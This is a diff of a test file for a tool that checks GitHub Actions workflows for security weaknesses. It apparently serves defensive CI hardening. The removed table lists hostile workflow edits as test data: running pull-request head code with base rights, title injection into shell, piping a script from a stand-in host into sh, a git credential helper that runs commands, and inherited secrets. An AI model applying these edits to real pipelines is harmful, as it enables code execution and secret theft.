@@ -5,126 +5,10 @@ from pathlib import Path
 import pytest
 
 from lianbing.cli import main
-from lianbing.workflows.judge import CHECKS, FOLDER, judge, read_workflows
-
-ROOT = Path(__file__).parents[2]
-OURS = read_workflows(ROOT)
-
-GATE, RECEIPTS, COMMENT = "gate", "receipts", "comment"
-MAIN_REF = "          ref: main\n"
-VERDICT = "        id: verdict\n"
-JUDGING = ".venv/bin/python -m lianbing gate --repo ."
-PINNED = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
-FETCH = '        run: git fetch --quiet --no-tags --no-recurse-submodules origin "+$HEAD_SHA:refs/lianbing/head"\n'
-ENVIRONMENT = "        run: make environment\n"
-STEP = "      - name: Facts of the platform\n"
-
-WEAKENINGS: dict[str, tuple[str, str, str, str]] = {
-    # what: (code, workflow, text, what it becomes)
-    "head checkout by commit": (
-        "W06", GATE, MAIN_REF, "          ref: ${{ github.event.pull_request.head.sha }}\n"),
-    "head checkout by ref": ("W06", GATE, MAIN_REF, "          ref: refs/pull/7/merge\n"),
-    "checkout of whatever the event means": ("W06", GATE, MAIN_REF, ""),
-    "checkout of a fork": ("W06", GATE, MAIN_REF, MAIN_REF + "          repository: stranger/campaign\n"),
-    "the action's own guard off": ("W06", GATE, MAIN_REF, MAIN_REF + "          allow-unsafe-pr-checkout: true\n"),
-    "head checkout in the shell": ("W06", GATE, FETCH, FETCH.replace("run: git fetch", "run: git checkout FETCH_HEAD; git fetch")),
-    "head checkout by the platform's tool": ("W06", GATE, ENVIRONMENT, "        run: gh pr checkout 7\n"),
-    "a file of the head": ("W06", GATE, ENVIRONMENT, "        run: git show refs/lianbing/head:Makefile\n"),
-    "receipts checks out the head": ("W06", RECEIPTS, MAIN_REF, "          ref: refs/pull/7/head\n"),
-    "receipts fetches the head": ("W13", RECEIPTS, ENVIRONMENT, FETCH),
-    "pull_request trigger": ("W03", GATE, "pull_request_target:", "pull_request:"),
-    "pull_request trigger besides": ("W03", GATE, "permissions: {}\n", "  pull_request:\n\npermissions: {}\n"),
-    "comment starts on any run": ("W03", COMMENT, "  workflow_call:", "  workflow_run: {workflows: [gate], types: [completed]}"),
-    "receipts start on comments": ("W03", RECEIPTS, "  workflow_call:", "  issue_comment:"),
-    "code with the base's rights": ("W03", "code", "  pull_request:", "  pull_request_target:"),
-    "publishing by hand": ("W03", "publish", "  push:\n", "  workflow_dispatch:\n  push:\n"),
-    "paths": ("W04", GATE, "    branches: [main]\n", "    branches: [main]\n    paths: [submissions/**]\n"),
-    "paths-ignore": ("W04", GATE, "    branches: [main]\n", "    branches: [main]\n    paths-ignore: [docs/**]\n"),
-    "branches-ignore": ("W04", GATE, "    branches: [main]\n", "    branches-ignore: [receipts]\n"),
-    "any base": ("W04", GATE, "    branches: [main]\n", ""),
-    "pushes unjudged": ("W04", GATE, "[opened, synchronize, reopened]", "[opened, reopened]"),
-    "publishing from anywhere": ("W04", "publish", "    branches: [main]\n", "    branches: ['**']\n"),
-    "if on the required job": ("W05", GATE, "    name: gate\n", "    name: gate\n    if: github.actor != 'demo-office'\n"),
-    "required job after another": ("W05", GATE, "    name: gate\n", "    name: gate\n    needs: receipts\n"),
-    "required job renamed": ("W05", GATE, "    name: gate\n", "    name: gate of ${{ github.run_id }}\n"),
-    "required job in a matrix": ("W05", GATE, "    name: gate\n", "    name: gate\n    strategy: {matrix: {a: []}}\n"),
-    "interpolated title": (
-        "W07", GATE, STEP, '      - run: echo "${{ github.event.pull_request.title }}"\n' + STEP),
-    "interpolated branch": ("W07", GATE, JUDGING, JUDGING + " --actor ${{ github.head_ref }}"),
-    "interpolated title, spaced": ("W07", RECEIPTS, "received=$(", "received=$(echo ${{github . event['x']}}; "),
-    "cache action": ("W08", GATE, STEP, f"      - uses: actions/cache@{'a' * 40}\n{STEP}"),
-    "cache of pip": ("W08", GATE, '          python-version: "3.11"\n', '          python-version: "3.11"\n          cache: pip\n'),
-    "cache mode": ("W08", GATE, "cache-mode: none", "cache-mode: write"),
-    "cache mode left out": ("W08", RECEIPTS, "cache-mode: none\n", ""),
-    "cache mode of a job": ("W08", GATE, "    name: gate\n", "    name: gate\n    cache-mode: write\n"),
-    "write permission of the gate": ("W09", GATE, "      contents: read # main's code, and", "      contents: write #"),
-    "write permission above": ("W09", GATE, "permissions: {}", "permissions: write-all"),
-    "permissions left out": ("W09", COMMENT, "permissions: {}\n", ""),
-    "permissions left out of the job": ("W09", "code", "    permissions:\n      contents: read # the code\n", ""),
-    "the comment writes to the repository": (
-        "W09", COMMENT, "      contents: read # main's code", "      contents: write # main's code"),
-    "the build signs": ("W09", "publish", "      contents: read #", "      id-token: write\n      contents: read #"),
-    "tag instead of commit": ("W10", GATE, PINNED, "actions/checkout@v7"),
-    "branch instead of commit": ("W10", "publish", PINNED, "actions/checkout@main"),
-    "short commit": ("W10", GATE, PINNED, "actions/checkout@3d3c42e"),
-    "an action of the working tree": ("W10", GATE, STEP, f"      - uses: ./.github/actions/judge\n{STEP}"),
-    "a workflow from elsewhere": (
-        "W10", GATE, "$/.github/workflows/receipts.yml", "stranger/x/.github/workflows/receipts.yml@main"),
-    "an unknown action": ("W11", GATE, STEP, f"      - uses: stranger/helper@{'a' * 40}\n{STEP}"),
-    "continue-on-error on the verdict": ("W12", GATE, VERDICT, VERDICT + "        continue-on-error: true\n"),
-    "continue-on-error before it": ("W12", GATE, ENVIRONMENT, ENVIRONMENT + "        continue-on-error: true\n"),
-    "continue-on-error on the job": ("W12", GATE, "    name: gate\n", "    name: gate\n    continue-on-error: true\n"),
-    "verdict only sometimes": ("W12", GATE, VERDICT, VERDICT + "        if: github.actor != 'demo-office'\n"),
-    "|| true": ("W12", GATE, "--format github\n", "--format github || true\n"),
-    "set +e": ("W12", GATE, f"          {JUDGING}", f"          set +e\n          {JUDGING}"),
-    "a command after the verdict": ("W12", GATE, "--format github\n", "--format github\n          make environment\n"),
-    "verdict in the background": ("W12", GATE, "--format github\n", "--format github &\n"),
-    "another shell": ("W12", GATE, VERDICT, VERDICT + "        shell: sh {0}\n"),
-    "another shell for all": ("W12", GATE, "    shell: bash", "    shell: bash {0}"),
-    "no verdict": ("W02", GATE, JUDGING, ".venv/bin/python -m lianbing check"),
-    "no receipts": ("W02", GATE, "  receipts:\n", "  receipt:\n"),
-    "a command of its own": ("W13", GATE, ENVIRONMENT, "        run: python tools/prepare.py\n"),
-    "a line continued": ("W13", GATE, JUDGING, JUDGING.replace(" --repo .", " \\\n            --repo .")),
-    "an unquoted variable": ("W13", GATE, '--actor "$ACTOR"', "--actor $ACTOR"),
-    "install without hashes": ("W14", GATE, ENVIRONMENT, "        run: .venv/bin/python -m pip install -r requirements.in\n"),
-    "install of the head": ("W14", GATE, STEP, f"      - run: pip install git+https://x.example/y@refs/lianbing/head\n{STEP}"),
-    "fetched and run": ("W14", "nightly", "run: make site", "run: curl https://x.example/i.sh | sh"),
-    "credentials left on disk": ("W15", GATE, "          persist-credentials: false\n", ""),
-    "credentials kept": ("W15", RECEIPTS, "persist-credentials: false", "persist-credentials: true"),
-    "self-hosted runner": ("W16", GATE, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
-    "runners by label": ("W16", RECEIPTS, "runs-on: ubuntu-24.04", "runs-on: [ubuntu-24.04, big]"),
-    "a runner that moves": ("W16", "publish", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
-    "receipts in a queue": ("W17", RECEIPTS, "cache-mode: none\n", "cache-mode: none\n\nconcurrency: receipts\n"),
-    "the receipts' job in a queue": ("W17", GATE, "    name: receipts\n", "    name: receipts\n    concurrency: receipts\n"),
-    "gate in a queue": ("W17", GATE, "  group: gate-${{ github.run_id }}", "  group: gate"),
-    "gate cancelled": ("W17", GATE, "cancel-in-progress: false", "cancel-in-progress: true"),
-    "no time limit": ("W18", GATE, "    timeout-minutes: 30\n", ""),
-    "no time limit for the impact": ("W18", GATE, "        timeout-minutes: 10\n", ""),
-    "a secret": ("W19", GATE, "GITHUB_TOKEN: ${{ github.token }}", "GITHUB_TOKEN: ${{ secrets.PAT }}"),
-    "all secrets": ("W19", GATE, "    uses: $/.github/workflows/c", "    secrets: inherit\n    uses: $/.github/workflows/c"),
-    "the title as an environment": (
-        "W20", GATE, "ACTOR: ${{ github.event.pull_request.user.login }}", "ACTOR: ${{ github.event.pull_request.title }}"),
-    "the head named in receipts": (
-        "W20", RECEIPTS, "GITHUB_TOKEN: ${{ github.token }}", "HEAD_SHA: ${{ github.event.pull_request.head.sha }}"),
-    "the token for an action": ("W20", GATE, "          name: gate\n", "          name: ${{ github.token }}\n"),
-    "a variable that the shell obeys": ("W21", GATE, "          ACTOR:", "          BASH_ENV: x\n          ACTOR:"),
-    "a variable for every step": ("W21", GATE, "permissions: {}\n", "env: {PYTHONPATH: x}\n\npermissions: {}\n"),
-    "git told to run something": ("W12", RECEIPTS, "credential.helper '!f() {", "credential.helper '!f() { touch x;"),
-    "git's settings": ("W21", GATE, "          ACTOR:", '          GIT_CONFIG_COUNT: "1"\n          ACTOR:'),
-    "a container": ("W22", RECEIPTS, "    name: receipts\n", "    name: receipts\n    container: stranger/x\n"),
-    "a folder of its own": ("W22", GATE, VERDICT, VERDICT + "        working-directory: /tmp\n"),
-    "a report of another run": ("W23", RECEIPTS, "          path: build/gate\n", "          path: build/gate\n          run-id: 5\n"),
-    "published unverified": ("W24", "publish", "        run: .venv/bin/python -m lianbing revalidate --repo .\n", ENVIRONMENT),
-    "deployed unattested": ("W24", "publish", "    needs: attest\n", "    needs: build\n"),
-    "deployed anyway": ("W24", "publish", "    needs: attest\n", "    needs: attest\n    if: always()\n"),
-    "receipt only if accepted": (
-        "W24", GATE, "    if: always()\n    permissions:\n      contents: w", "    permissions:\n      contents: w"),
-    "half the history": ("W24", "nightly", " --whole", ""),
-    "a key twice": ("W01", GATE, "permissions: {}\n", "permissions: {}\n\npermissions: write-all\n"),
-    "an anchor": ("W01", GATE, "    name: gate\n", "    name: &n gate\n"),
-    "a merge key": ("W01", GATE, "permissions: {}\n", "<<: {permissions: write-all}\n"),
-    "not YAML": ("W01", GATE, "permissions: {}", "permissions: {"),
-}  # fmt: skip
+from lianbing.workflows.expected import pins
+from lianbing.workflows.judge import CHECKS, FOLDER, judge
+from lianbing.workflows.policy import ACTIONS, JOBS
+from tests.workflows.weakenings import GATE, OURS, ROOT, WEAKENINGS
 
 
 def weakened(workflow: str, text: str, other: str) -> dict[str, str]:
@@ -150,7 +34,7 @@ def test_every_weakening_is_refused_at_its_line(weakening: str) -> None:
 
 def test_at_least_twelve_ways_with_every_code() -> None:
     assert len(WEAKENINGS) >= 12
-    assert {code for code, *_ in WEAKENINGS.values()} == {f"W{n:02}" for n in range(1, 25)}
+    assert {code for code, *_ in WEAKENINGS.values()} == {f"W{n:02}" for n in range(1, 26)}
 
 
 @pytest.mark.parametrize("name", ["gate", "comment", "receipts", "code", "publish", "nightly"])
@@ -177,6 +61,67 @@ def test_a_further_workflow_is_held_to_the_same_rules(trigger: str, codes: set[s
         "    steps:\n      - name: b\n        run: make environment\n"
     )
     assert {f.code for f in judge(OURS | {f"{FOLDER}/more.{ending}": text})} == codes
+
+
+FURTHER = """\
+name: {workflow}
+on: pull_request
+permissions: {{}}
+cache-mode: none
+defaults: {{run: {{shell: bash}}}}
+jobs:
+  {job}:
+    name: {check}
+    runs-on: ubuntu-24.04
+    timeout-minutes: 5
+    permissions: {{}}
+    steps:
+      - name: b
+        run: make environment
+"""
+
+
+@pytest.mark.parametrize(
+    ("file", "names", "line"),
+    [
+        ("more.yml", {"job": "gate"}, 7),
+        ("more.yml", {"check": "gate"}, 8),
+        ("more.yml", {"check": "GATE "}, 8),
+        ("more.yml", {"check": "ｇate"}, 8),
+        ("more.yml", {"check": "check"}, 8),
+        ("more.yml", {"job": "deploy"}, 7),
+        ("more.yml", {"workflow": "gate"}, 1),
+        ("gate.yaml", {}, 1),
+    ],
+)
+def test_no_other_file_forges_a_check_by_its_name(file: str, names: dict[str, str], line: int) -> None:
+    plain = {"workflow": "more", "job": "a", "check": "a"}
+    assert judge(OURS | {f"{FOLDER}/{file}": FURTHER.format(**plain)}) == () or file == "gate.yaml"
+    found = judge(OURS | {f"{FOLDER}/{file}": FURTHER.format(**plain | names)})
+    assert [(f.code, f.line) for f in found] == [("W26", line)]
+
+
+@pytest.mark.parametrize("name", JOBS)
+def test_no_line_of_a_workflow_can_be_left_out_or_changed(name: str) -> None:
+    path = f"{FOLDER}/{name}.yml"
+    lines = OURS[path].splitlines(keepends=True)
+    accepted = []
+    for number, line in enumerate(lines):
+        if not line.strip() or line.lstrip().startswith("#"):
+            continue
+        plain = line.partition(" # ")[0].rstrip()
+        for other in ("", f"{plain}x\n", f"{plain} x\n"):
+            if judge(OURS | {path: "".join([*lines[:number], other, *lines[number + 1 :]])}) == ():
+                accepted.append((number + 1, other))
+    assert accepted == []
+
+
+def test_the_tables_name_every_action_in_use_and_no_other() -> None:
+    used = {
+        line.partition("uses: ")[2] for text in OURS.values() for line in text.splitlines() if "@" in line
+    }
+    assert set(pins().values()) == {name for name in used if name}
+    assert set(pins()) == set(ACTIONS)
 
 
 def test_lines_are_those_of_the_file() -> None:
